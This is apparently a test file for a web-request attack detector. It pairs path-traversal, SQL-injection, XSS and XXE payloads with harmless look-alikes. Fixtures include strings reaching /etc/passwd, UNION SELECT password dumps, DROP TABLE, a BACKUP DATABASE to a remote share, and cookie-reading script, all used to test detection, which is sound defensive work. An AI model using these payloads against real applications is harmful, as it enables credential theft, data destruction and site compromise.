// One test per evasion mechanism or grammar the detectors learned: the attack form, and the ordinary
// value that shares its surface.
import { q, rawQuery, category, rule } from "../detect/testing";
import { sqliWordsPossible } from "../detect/sqli";

function wordsPossible(s: string): bool {
  const b = String.UTF8.encode(s);
  return sqliWordsPossible(changetype<usize>(b), b.byteLength);
}

describe("traversal: over-long UTF-8 read as old decoders did", () => {
  it("reads any C0/C1 pair as a dot or a separator", () => {
    expect(category(rawQuery("q=..%c1%afetc%c1%afpasswd"))).toBe("traversal");
    expect(category(rawQuery("q=%c0%ee%c0%ee%c1%1c%c0%ee%c0%ee%c1%1cboot.ini"))).toBe("traversal");
    expect(category(rawQuery("q=%c0%5e%c0%5e%c1%9cwindows%c1%9cwin.ini"))).toBe("traversal");
  });
  it("leaves Latin-1 text with C0/C1 bytes alone", () => {
    expect(category(rawQuery("q=%C1lvaro+%C0+bient%F4t"))).toBe("none");
  });
});

describe("traversal: separators spelled as hex, escaped dots, drive-relative paths, PHP filters", () => {
  it("finds them", () => {
    expect(category(q("etc0x2fpasswd"))).toBe("traversal");
    expect(category(q("0x2e0x2e0x5c{FILE}"))).toBe("traversal");
    expect(category(q("..2f..2f..2fetc2fpasswd"))).toBe("traversal");
    expect(category(q("/.\\/\\.\\.\\/\\.\\.\\/\\.\\{FILE}"))).toBe("traversal");
    expect(category(q("c:windows\\win.ini"))).toBe("traversal");
    expect(category(q("d:inetpub"))).toBe("traversal");
    expect(rule(q("convert.iconv.UTF8.UTF16"))).toBe("traversal.wrapper");
  });
  it("leaves hex numbers, version strings and ordinary colons alone", () => {
    expect(category(q("0x2f0x3a"))).toBe("none");
    expect(category(q("color 0x2e8b57"))).toBe("none");
    expect(category(q("v1.2..3"))).toBe("none");
    expect(category(q("a:windowsill"))).toBe("none");
    expect(category(q("c:\\.\\x"))).toBe("traversal"); // absolute drive path: already flagged before
  });
});

describe("traversal: padded roots, spelled-out dot-dot, dots before a placeholder, stripped separators", () => {
  it("finds them", () => {
    expect(rule(q("/./etc/passwd"))).toBe("traversal.sensitive-file");
    expect(rule(q("/.//././/./{FILE}"))).toBe("traversal.padded-root");
    expect(rule(q("////{FILE}"))).toBe("traversal.padded-root");
    expect(rule(q("\\\\.\\pipe\\x"))).toBe("traversal.padded-root");
    expect(rule(q("/./"))).toBe("traversal.padded-root");
    expect(rule(q("/0x2e0x2ex2e0x2e{FILE}"))).toBe("traversal.dot-dot");
    expect(rule(q("/aaaaaaaaaaaaaaaa......{FILE}"))).toBe("traversal.dot-dot");
    expect(rule(q("........etcpasswd"))).toBe("traversal.sensitive-file");
    expect(rule(q("....web-infweb.xml"))).toBe("traversal.sensitive-file");
    expect(rule(q("c:inetpubwwwrootglobal.asa"))).toBe("traversal.sensitive-file");
    expect(category(rawQuery("q=x&f=%2F.%2F%2F.%2Fx"))).toBe("traversal");
  });
  it("leaves network paths, comment banners, JS spread and ordinary dots alone", () => {
    expect(category(q("//cdn.example.com/lib.js"))).toBe("none");
    expect(category(q("\\\\server\\share"))).toBe("none");
    expect(category(q('/// <reference path="a.d.ts" />'))).toBe("none");
    expect(category(q("//////////"))).toBe("none");
    expect(category(q("[...{ a: 1 }]"))).toBe("none");
    expect(category(q("{a}..{b}"))).toBe("none");
    expect(category(q("0x2e 0x2e"))).toBe("none");
    expect(category(q("the etc. passwd field"))).toBe("none");
  });
});

describe("SQL: literal-operator-literal, comment-ended expressions, UNION at the end", () => {
  it("finds them", () => {
    expect(rule(q("A' / 'B"))).toBe("sqli.breakout-operator");
    expect(rule(q("'&'"))).toBe("sqli.breakout-operator");
    expect(rule(q("A 'div' B"))).toBe("sqli.breakout-operator");
    expect(rule(q("( 'a' * @a )  --"))).toBe("sqli.comment-expression");
    expect(rule(q("417652--"))).toBe("sqli.comment-expression");
    expect(rule(q("( BINARY ( 1) )  --"))).toBe("sqli.comment-expression");
    expect(rule(q("-1 union"))).toBe("sqli.union");
    expect(rule(q("1/1/**/union"))).toBe("sqli.union");
  });
  it("leaves quoted symbols in prose, ranges and the European Union alone", () => {
    expect(category(q("use '/' as separator"))).toBe("none");
    expect(category(q('SMALL "&" SIGN'))).toBe("none");
    expect(category(q("the 'like' button"))).toBe("none");
    expect(category(q("pages 20--25"))).toBe("none");
    expect(category(q("see above --"))).toBe("none");
    expect(category(q("2024-03-18"))).toBe("none");
    expect(category(q("European Union"))).toBe("none");
    expect(category(q("2 union square"))).toBe("none");
  });
});

describe("SQL: statements and expressions opening the value", () => {
  it("finds CASE, DDL, SELECT of a niladic function, control flow and DELETE modifiers", () => {
    expect(rule(q("case when 2 then 3 end"))).toBe("sqli.case");
    expect(category(q("create table myfile (input TEXT);"))).toBe("sqli");
    expect(category(q("drop table users;"))).toBe("sqli");
    expect(category(q("select current_user;"))).toBe("sqli");
    expect(category(q("1 and current_user=foo"))).toBe("sqli");
    expect(category(q("';if 1=1 drop table users-- -a"))).toBe("sqli");
    expect(category(q("1; delete quick from foo"))).toBe("sqli");
    expect(category(q("selECt 1,2,3,concat_ws(0x3a,username,password),5,6,7,8,9,10,11,12,13,14,15,16,17 from admin --"))).toBe("sqli");
  });
  it("leaves the same words in prose alone", () => {
    expect(category(q("in case when it rains then stay home"))).toBe("none");
    expect(category(q("Create table of contents"))).toBe("none");
    expect(category(q("drop table tennis"))).toBe("none");
    expect(category(q("select user"))).toBe("none");
    expect(category(q("ok; if so, select the best"))).toBe("none");
    expect(category(q("binary search tree"))).toBe("none");
  });
});

describe("SQL: versioned comments, VALUES tuples, match-all LIKE, server variables, adjacent literals, BACKUP", () => {
  it("finds them", () => {
    expect(rule(q("1/*!1111'*/"))).toBe("sqli.versioned-comment");
    expect(rule(q("',NULL) waitfor delay '0:0:20' /*"))).toBe("sqli.breakout-values");
    expect(rule(q("1'), NULL, @@version)#"))).toBe("sqli.breakout-values");
    expect(rule(q(" like '%'"))).toBe("sqli.tautology");
    expect(rule(q("@@version"))).toBe("sqli.server-variable");
    expect(rule(q("1 and @@datadir"))).toBe("sqli.server-variable");
    expect(rule(q("' '"))).toBe("sqli.breakout-operator");
    expect(rule(q('" "'))).toBe("sqli.breakout-operator");
    expect(rule(q("backup database master to disk='\\\\10.0.0.1\\s\\db.dat'"))).toBe("sqli.stacked");
  });
  it("leaves licence comments, measures, prose LIKE, mentions, separators and backup advice alone", () => {
    expect(category(q("/*! normalize.css v8 */"))).toBe("none");
    expect(category(q("5', 2)"))).toBe("none");
    expect(category(q("Size (6', 2\")"))).toBe("none");
    expect(category(q("a sign like '%' here"))).toBe("none");
    expect(category(q("@john thanks"))).toBe("none");
    expect(category(q("mail me @ home"))).toBe("none");
    expect(category(q("use ' ' as separator"))).toBe("none");
    expect(category(q("how to backup database to disk"))).toBe("none");
  });
});

describe("normalisation: typographic quotes", () => {
  it("reads smart quotes and primes as quotes", () => {
    expect(category(q("’ or ‘1’=’1"))).toBe("sqli");
    expect(category(q("1′) and '1′='1"))).toBe("sqli");
  });
  it("leaves typographic prose alone", () => {
    expect(category(q("O’Reilly’s “best” book"))).toBe("none");
  });
});

describe("XSS: computed calls on globals, unquoted attribute ends, UTF-7", () => {
  it("finds them", () => {
    expect(rule(q('top["al"+"ert"](1)'))).toBe("xss.js-call");
    expect(category(q("window['al\\x65rt'](1)"))).toBe("xss");
    expect(rule(q("<input type=text value=x>"))).toBe("xss.html-tag");
    expect(rule(q("+ADw-script+AD4-alert(1)"))).toBe("xss.utf7-markup");
  });
  it("leaves arrays, indexes and plus signs alone", () => {
    expect(category(q("top[3] results"))).toBe("none");
    expect(category(q("window[0] (left)"))).toBe("none");
    expect(category(q("a+adw-b"))).toBe("none");
    expect(category(q("<b>bold</b> text"))).toBe("none");
  });
});

describe("XSS: handlers smuggled after '<', optional chaining, glued document.cookie, window.open, xml: prefix, ATTLIST", () => {
  it("finds them", () => {
    expect(rule(q("<x </onxxx=1"))).toBe("xss.event-handler");
    expect(rule(q("alert?.(document?.cookie)"))).toBe("xss.js-call");
    expect(rule(q("scriptdocument.cookie=true;/script"))).toBe("xss.dom-sink");
    expect(rule(q("window.open('popup.html','spam')"))).toBe("xss.dom-sink");
    expect(rule(q('<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'))).toBe("xss.tag");
    expect(rule(q('<!ATTLIST img xmlns CDATA "http://www.w3.org/1999/xhtml" src CDATA "xx:x">'))).toBe("xxe.attlist");
  });
  it("leaves online words, comparisons, optional calls of other names and window prose alone", () => {
    expect(category(q("<x </online"))).toBe("none");
    expect(category(q("a < b </ c"))).toBe("none");
    expect(category(q("user?.(name)"))).toBe("none");
    expect(category(q("my documents.cookie jar"))).toBe("none");
    expect(category(q("window opens at 9"))).toBe("none");
    expect(category(q("<soap:note>"))).toBe("none");
  });
});

describe("XSS: a lone '<' spelled in an encoding no transport applies", () => {
  it("finds entity, numeric, JS-escape and double-URL spellings", () => {
    expect(rule(q("&lt;"))).toBe("xss.encoded-probe");
    expect(rule(q("&#x0003C;"))).toBe("xss.encoded-probe");
    expect(rule(q("\\u003c"))).toBe("xss.encoded-probe");
    expect(rule(rawQuery("q=%253C"))).toBe("xss.encoded-probe");
  });
  it("leaves a bare or URL-escaped '<' and text around an entity alone", () => {
    expect(category(q("<"))).toBe("none");
    expect(category(rawQuery("op=%3C+"))).toBe("none");
    expect(category(q(" < "))).toBe("none");
    expect(category(q("a &lt; b"))).toBe("none");
  });
});

describe("SQL: word-only values skip the token analysis unless a word is SQL", () => {
  it("keeps keywords, niladic and dangerous functions, and numbers glued to letters", () => {
    expect(wordsPossible("1 union select password from users")).toBe(true);
    expect(wordsPossible("1union")).toBe(true);
    expect(wordsPossible("x current_user")).toBe(true);
    expect(wordsPossible("benchmark 5")).toBe(true);
    expect(category(q("1 union select password from users"))).toBe("sqli");
  });
  it("keeps AND/OR opening the value (NOT before it aside) and server variables after AND/OR", () => {
    expect(wordsPossible("or 1")).toBe(true);
    expect(wordsPossible("not and 1")).toBe(true);
    expect(wordsPossible("x or @@version")).toBe(true);
    expect(category(q("or 1"))).toBe("sqli");
    expect(category(q("not and 1"))).toBe("sqli");
    expect(category(q("x or @@version"))).toBe("sqli");
  });
  it("skips names, addresses, e-mail addresses, function names used as words, and prose with and/or", () => {
    expect(wordsPossible("main street 12")).toBe(false);
    expect(wordsPossible("customer0@example.com")).toBe(false);
    expect(wordsPossible("version 2 left right")).toBe(false);
    expect(category(q("Main Street 12"))).toBe("none");
    // A boolean clause further on needs a comparison (LIKE, IS) or a function to fire.
    expect(wordsPossible("admin or 1")).toBe(false);
    expect(wordsPossible("ring between nine and five and not later")).toBe(false);
    expect(category(q("admin or 1"))).toBe("none");
    expect(wordsPossible("admin or 1 is null")).toBe(true);
  });
});

describe("XSS: text formatting that only lays out text or links within the site", () => {
  it("still finds formatting tags with attributes that do more", () => {
    expect(rule(q('<a href="http://evil.example/">login</a>'))).toBe("xss.html-tag");
    expect(rule(q('<a href="//evil.example/">login</a>'))).toBe("xss.html-tag");
    expect(rule(q('<div id="x">'))).toBe("xss.html-tag");
    expect(rule(q('<span style="position:fixed">x</span>'))).toBe("xss.html-tag");
  });
  it("leaves layout attributes and site-relative links alone", () => {
    expect(category(q('blah <a href="/path1/path2">foo</a>'))).toBe("none");
    expect(category(q('junk <a href="../">foo.com</a>'))).toBe("none");
    expect(category(q('<span class="show-text">regardez</span>'))).toBe("none");
    expect(category(q('<table width="99%" border="0" cellpadding="1">'))).toBe("none");
  });
});

describe("XSS: a payload function's name right after a digit is no name", () => {
  it("finds the call after an operator", () => {
    expect(rule(q("1;alert(1)"))).toBe("xss.js-call");
    expect(rule(q("1-alert(1)"))).toBe("xss.js-call");
  });
  it("leaves a digit glued to the word alone", () => {
    expect(category(q("1alert(1)"))).toBe("none");
  });
});

describe("SQL: a breakout that leaves two operands side by side is no SQL", () => {
  it("still finds a number after a breakout's AND/OR, and comments after a closing quote", () => {
    expect(rule(q("x' and 1"))).toBe("sqli.breakout-logic");
    expect(rule(q("1' or 1 #"))).toBe("sqli.breakout-logic");
    expect(rule(q("admin'--"))).toBe("sqli.comment-breakout");
    expect(rule(q("1 '#"))).toBe("sqli.comment-breakout");
  });
  it("leaves a number followed by a quote, a number after the closing quote, and prose ending in '# alone", () => {
    expect(category(q(" 1950' AND 60'S WOMEN'S COATS"))).toBe("none");
    expect(category(q('necklace length 16" or 18"'))).toBe("none");
    expect(category(q("'1--'"))).toBe("none");
    expect(category(q('"1--'))).toBe("none");
    expect(category(q("BAMBOO CHARCOAL SOAP 1 '#"))).toBe("none");
  });
  it("judges a comparison with a number on its right by what follows the number", () => {
    expect(rule(q("1'=1"))).toBe("sqli.breakout-operator");
    expect(rule(q("x'<3 or 'a"))).toBe("sqli.breakout-operator");
    expect(category(q('"<3"'))).toBe("none");
  });
});
